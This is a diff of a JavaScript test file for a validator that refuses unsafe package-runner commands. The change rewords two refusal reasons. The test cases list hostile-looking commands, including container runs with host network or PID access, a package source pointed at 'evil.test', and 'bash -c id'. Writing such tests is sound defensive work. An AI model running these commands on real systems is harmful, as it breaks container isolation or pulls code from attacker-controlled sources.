@@ -40,8 +40,8 @@ test.each([
   ["docker run --network host weather", '"--network"'],
   ["podman run --pid=host weather", '"--pid=host"'],
   ["dnx --yes Weather --add-source http://evil.test", '"--add-source"'],
-  ["npx -y {cache} weather", "depends on what you type"],
-  ["npx -y", "names no package"],
+  ["npx -y {cache} weather", "depends on a value that you enter"],
+  ["npx -y", "does not name a package"],
   ["bash -c id", "not a package runner"],
 ])("%s is refused", (line, reason) => {
   const [command = "", ...args] = line.split(" ");
